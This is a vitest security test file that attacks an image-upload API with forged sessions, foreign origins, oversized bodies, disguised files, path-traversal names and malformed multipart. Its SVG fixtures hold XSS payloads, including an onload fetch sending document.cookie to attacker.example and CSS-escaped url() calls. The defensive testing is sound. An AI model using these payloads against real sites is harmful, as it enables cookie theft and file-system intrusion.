/**
 * The image library's endpoints against an attacker: no session, a customer's session, a forged
 * studio cookie, a viewer uploading, an upload from a foreign Origin or with none, a body over the
 * size limit (declared, and streamed without a length), a file that is not an image whatever its
 * name says, an SVG that is all script, a file name that climbs out of the folder, and malformed
 * multipart. Each refusal stores no image, writes no file into the content folder and no audit
 * line; nothing answers a 500.
 *
 * @engines sqlite: who may call is decided before the body is read or any image query runs.
 */
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signedUp } from '../api/my-account-test-kit';
import { signInOperator } from '../studio/studio-test-kit';
import { startTestServer, type TestServer } from '../testing/test-server';
import { MAX_IMAGE_BYTES } from '../../schemas/uploaded-images';
import { IMAGE_TOO_LARGE, IMAGE_TYPE_MESSAGE } from '../studio/image-upload';

type Json = Record<string, any>;
type Headers = Record<string, string>;

let server: TestServer;
let origin: string;
let jpeg: Buffer;
const as = {} as Record<'viewer' | 'editor' | 'customer', Headers>;

beforeAll(async () => {
  server = await startTestServer({ CONTENT_POLL_MS: '0' }, { contentChanges: {} });
  origin = new URL(server.url).origin;
  as.viewer = (await signInOperator(server, 'viewer')).headers;
  as.editor = (await signInOperator(server, 'editor')).headers;
  as.customer = { Cookie: (await signedUp(server.url)).browser.cookie!, Origin: origin };
  jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#6b4f2a' } }).jpeg().toBuffer();
});

afterAll(async () => {
  await server?.stop();
});

function form(parts: { alt?: string; file?: { bytes: Buffer; name: string; type?: string } }): FormData {
  const body = new FormData();
  if (parts.alt !== undefined) body.set('alt', parts.alt);
  if (parts.file) body.set('file', new Blob([new Uint8Array(parts.file.bytes)], { type: parts.file.type ?? 'application/octet-stream' }), parts.file.name);
  return body;
}

async function call(headers: Headers, method: string, pathname: string, body?: FormData | string): Promise<{ status: number; body: Json; text: string }> {
  const res = await fetch(new URL(pathname, server.url), { method, headers, body });
  const text = await res.text();
  let parsed: Json = {};
  try {
    parsed = JSON.parse(text) as Json;
  } catch {
    // not JSON
  }
  return { status: res.status, body: parsed, text };
}

const upload = (headers: Headers, parts: Parameters<typeof form>[0] = { alt: 'A walnut kitchen', file: { bytes: jpeg, name: 'kitchen.jpg', type: 'image/jpeg' } }) => call(headers, 'POST', '/api/studio/images', form(parts));

const uploadsDir = () => path.join(server.contentDir, 'images', 'uploads');

/** What an attack must leave as it was: the library's rows, the files in the folder, the audit log of images. */
async function snapshot() {
  const q = server.q;
  return {
    images: await q.all(q.db.selectFrom('content_image').select(['id', 'src', 'alt']).orderBy('id')),
    files: (await q.all(q.db.selectFrom('content_image_file').select('id'))).length,
    folder: fs.existsSync(uploadsDir()) ? fs.readdirSync(uploadsDir()).sort() : [],
    audit: (await q.all(q.db.selectFrom('studio_audit').select('id').where('action', 'like', 'image.%'))).length,
  };
}

/**
 * A raw request, so the body can lie about its length or stream without one; the answer is read as
 * soon as the server gives it, and writing stops there (a server that refuses early closes the
 * connection rather than read 16 MB it will not keep).
 */
function rawUpload(headers: Headers, chunks: () => Iterable<Buffer>, length?: number): Promise<{ status: number; body: Json }> {
  return new Promise((resolve, reject) => {
    const url = new URL('/api/studio/images', server.url);
    const req = http.request(url, {
      method: 'POST',
      headers: { ...headers, 'Content-Type': 'multipart/form-data; boundary=attack', ...(length === undefined ? { 'Transfer-Encoding': 'chunked' } : { 'Content-Length': String(length) }) },
    });
    let answered = false;
    req.on('response', (res) => {
      answered = true;
      const parts: Buffer[] = [];
      res.on('data', (c: Buffer) => parts.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: JSON.parse(Buffer.concat(parts).toString('utf8') || '{}') as Json }));
    });
    // Once the server has answered and closed, the rest of the body cannot be written: expected.
    req.on('error', (err) => {
      if (!answered) reject(err);
    });
    const iterator = chunks()[Symbol.iterator]();
    const pump = (): void => {
      for (;;) {
        if (answered || req.destroyed) return;
        const next = iterator.next();
        if (next.done) {
          req.end();
          return;
        }
        if (!req.write(next.value)) {
          req.once('drain', pump);
          return;
        }
      }
    };
    pump();
  });
}

describe('who may call', () => {
  it('refuses the library and the upload without a studio session, with a customer\'s session and with a forged cookie', async () => {
    const before = await snapshot();
    for (const headers of [{ Origin: origin }, as.customer, { Origin: origin, Cookie: 'showroom_studio=forged-session-id' }]) {
      expect((await call(headers, 'GET', '/api/studio/images')).status).toBe(401);
      const res = await upload(headers);
      expect(res.status, res.text).toBe(401);
      expect(res.body.error).toBe('not_signed_in');
    }
    expect(await snapshot()).toEqual(before);
  });

  it('lets a viewer search the library, never upload', async () => {
    const before = await snapshot();
    expect((await call(as.viewer, 'GET', '/api/studio/images?search=banner')).status).toBe(200);
    const res = await upload(as.viewer);
    expect(res.status).toBe(403);
    expect(res.body.error).toBe('forbidden_role');
    expect(await snapshot()).toEqual(before);
  });

  it("refuses an editor's upload from a foreign Origin, or with none", async () => {
    const before = await snapshot();
    const foreign = await upload({ ...as.editor, Origin: 'https://attacker.example' });
    expect(foreign.status).toBe(403);
    expect(foreign.body.error).toBe('forbidden_origin');
    expect((await upload({ Cookie: as.editor.Cookie! })).status).toBe(403);
    expect(await snapshot()).toEqual(before);
  });

  it('refuses a large body from someone without a session before reading it', async () => {
    const before = await snapshot();
    const res = await rawUpload({ Origin: origin }, function* () {
      for (let i = 0; i < 20; i++) yield Buffer.alloc(1024 * 1024, 0x61);
    });
    expect(res.status).toBe(401);
    expect(await snapshot()).toEqual(before);
  });
});

describe('what an editor sends', () => {
  it('refuses a body that declares more than the limit, before reading it', async () => {
    const before = await snapshot();
    const res = await rawUpload(as.editor, function* () {
      yield Buffer.from('--attack\r\n');
    }, 40 * 1024 * 1024);
    expect(res.status).toBe(413);
    expect(res.body.fields).toEqual({ file: IMAGE_TOO_LARGE });
    expect(await snapshot()).toEqual(before);
  });

  it('stops reading a file streamed without a length once it passes the limit', async () => {
    const before = await snapshot();
    const res = await rawUpload(as.editor, function* () {
      yield Buffer.from('--attack\r\nContent-Disposition: form-data; name="alt"\r\n\r\nA big one\r\n--attack\r\nContent-Disposition: form-data; name="file"; filename="big.jpg"\r\nContent-Type: image/jpeg\r\n\r\n');
      yield jpeg;
      // Past the limit by a few MB; a server reading it all would hold it in memory.
      for (let sent = 0; sent < MAX_IMAGE_BYTES + 4 * 1024 * 1024; sent += 1024 * 1024) yield Buffer.alloc(1024 * 1024, 0xff);
      yield Buffer.from('\r\n--attack--\r\n');
    });
    expect(res.status).toBe(413);
    expect(res.body).toMatchObject({ error: 'image_too_large', fields: { file: IMAGE_TOO_LARGE } });
    expect(await snapshot()).toEqual(before);
  });

  it('refuses what is not an image whatever its name and type say, and an SVG that is only script', async () => {
    const before = await snapshot();
    const notImages: { bytes: Buffer; name: string; type?: string }[] = [
      { bytes: Buffer.from('<html><script>alert(1)</script></html>'), name: 'photo.jpg', type: 'image/jpeg' },
      { bytes: Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj\n<<>>\nendobj\n'), name: 'brochure.png', type: 'image/png' },
      { bytes: Buffer.from('MZ\x90\x00\x03\x00\x00\x00' + 'x'.repeat(200)), name: 'setup.webp' },
      { bytes: Buffer.from('<?xml version="1.0"?><svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'), name: 'mark.svg', type: 'image/svg+xml' },
      { bytes: Buffer.from('<html><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg></html>'), name: 'mark.svg' },
    ];
    for (const file of notImages) {
      const res = await upload(as.editor, { alt: 'An attack', file });
      expect(res.status, `${file.name}: ${res.text}`).toBe(415);
      expect(res.body).toEqual({ error: 'unsupported_image', message: IMAGE_TYPE_MESSAGE, fields: { file: IMAGE_TYPE_MESSAGE } });
    }
    expect(await snapshot()).toEqual(before);
  });

  it('keeps an SVG with a script only as its drawing: nothing that runs is stored or served', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="fetch(\'https://attacker.example/\'+document.cookie)"><script>alert(1)</script><circle r="5" cx="5" cy="5" onclick="alert(2)"/><set attributeName="onmouseover" to="alert(3)"/><animate href="#x" attributeName="href" values="javascript:alert(4)"/></svg>';
    const res = await upload(as.editor, { alt: 'A circle', file: { bytes: Buffer.from(svg), name: 'circle.svg', type: 'image/svg+xml' } });
    expect(res.status, res.text).toBe(201);
    const stored = fs.readFileSync(path.join(server.contentDir, res.body.data.src), 'utf8');
    expect(stored).toContain('<circle');
    for (const gone of ['<script', 'onload', 'onclick', 'alert', 'attacker.example', 'javascript:']) expect(stored, gone).not.toContain(gone);
    const served = await fetch(new URL(res.body.data.src, server.url));
    expect(served.headers.get('content-type')).toBe('image/svg+xml');
    expect(served.headers.get('content-security-policy')).toContain('sandbox');
  });

  it('drops the styles of an SVG that fetch another address through CSS escapes or string functions (issue 39)', async () => {
    const fetching = [
      // `\75rl(` is `url(` to a browser's CSS parser: an escape the old pattern did not read.
      '<rect width="4" height="4" style="fill:\\75rl(https://attacker.example/attr)"/>',
      '<rect width="4" height="4" style="fill:u\\rl(https://attacker.example/letter)"/>',
      '<style>rect{fill:\\75 rl(https://attacker.example/element)}</style>',
      "<style>@\\69mport 'https://attacker.example/import.css';</style>",
      '<style>rect{fill:u/**/rl(https://attacker.example/comment)}</style>',
      '<rect width="4" height="4" style="background-image:image-set(\'https://attacker.example/set.png\' 1x)"/>',
      '<rect width="4" height="4" fill="\\75rl(https://attacker.example/fill)"/>',
    ];
    for (const part of fetching) {
      const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><circle r="5" cx="5" cy="5"/>${part}</svg>`;
      const res = await upload(as.editor, { alt: 'A circle', file: { bytes: Buffer.from(svg), name: 'escaped.svg', type: 'image/svg+xml' } });
      // Cleaned, two of them are the same image: the second is the one stored already (200).
      expect([200, 201], res.text).toContain(res.status);
      const stored = fs.readFileSync(path.join(server.contentDir, res.body.data.src), 'utf8');
      expect(stored, part).toContain('<circle');
      expect(stored, part).not.toContain('attacker.example');
    }
  });

  it("keeps an upload inside the uploads folder whatever its file name says", async () => {
    for (const name of ['../../../server/evil.jpg', '..\\..\\routes.json.jpg', '/etc/passwd.jpg', '%2e%2e%2fpages%2fhome.json.jpg']) {
      const bytes = await sharp({ create: { width: 8, height: 8, channels: 3, background: `#${String(name.length).padStart(6, '1')}` } }).jpeg().toBuffer();
      const res = await upload(as.editor, { alt: 'A tile', file: { bytes, name, type: 'image/jpeg' } });
      expect(res.status, res.text).toBeLessThan(300);
      expect(res.body.data.src, name).toMatch(/^\/images\/uploads\/[a-z0-9-]+-[0-9a-f]{10}\.jpg$/);
    }
    expect(fs.existsSync(path.join(server.contentDir, '..', 'server', 'evil.jpg'))).toBe(false);
  });

  it('answers malformed requests with a clear 4xx, stores nothing, and never a 500', async () => {
    const before = await snapshot();
    const cases: [string, () => Promise<{ status: number; body: Json; text: string }>, number][] = [
      ['JSON instead of a form', () => call({ ...as.editor, 'Content-Type': 'application/json' }, 'POST', '/api/studio/images', JSON.stringify({ alt: 'x', file: 'aGVsbG8=' })), 415],
      ['a multipart body with no boundary', () => call({ ...as.editor, 'Content-Type': 'multipart/form-data' }, 'POST', '/api/studio/images', 'garbage'), 400],
      ['a truncated multipart body', () => call({ ...as.editor, 'Content-Type': 'multipart/form-data; boundary=x' }, 'POST', '/api/studio/images', '--x\r\nContent-Disposition: form-data; name="alt"\r\n\r\nunfinished'), 400],
      ['two files', () => {
        const body = form({ alt: 'Two', file: { bytes: jpeg, name: 'a.jpg' } });
        body.append('file', new Blob([new Uint8Array(jpeg)]), 'b.jpg');
        return call(as.editor, 'POST', '/api/studio/images', body);
      }, 400],
      ['a file under another name', () => {
        const body = new FormData();
        body.set('alt', 'Elsewhere');
        body.set('picture', new Blob([new Uint8Array(jpeg)]), 'a.jpg');
        return call(as.editor, 'POST', '/api/studio/images', body);
      }, 400],
      ['a field the upload does not have', () => {
        const body = form({ alt: 'Extra', file: { bytes: jpeg, name: 'a.jpg' } });
        body.set('uploadedBy', 'admin@oakandhearth.example');
        return call(as.editor, 'POST', '/api/studio/images', body);
      }, 400],
      ['an alt text of 301 characters', () => upload(as.editor, { alt: 'x'.repeat(301), file: { bytes: jpeg, name: 'a.jpg', type: 'image/jpeg' } }), 400],
      ['an empty file', () => upload(as.editor, { alt: 'Empty', file: { bytes: Buffer.alloc(0), name: 'a.jpg', type: 'image/jpeg' } }), 400],
      ['a search of 201 characters', () => call(as.viewer, 'GET', `/api/studio/images?search=${'x'.repeat(201)}`), 400],
      ['a parameter the library does not take', () => call(as.viewer, 'GET', '/api/studio/images?path=../../etc'), 400],
    ];
    for (const [name, send, status] of cases) {
      const res = await send();
      expect(res.status, `${name}: ${res.text}`).toBe(status);
      expect(res.body.error, `${name}: ${res.text}`).toEqual(expect.any(String));
      expect(res.body.message, name).toEqual(expect.any(String));
      expect(res.text).not.toMatch(/at \w+ \(|node_modules|SqliteError/);
    }
    expect(await snapshot()).toEqual(before);
  });
});
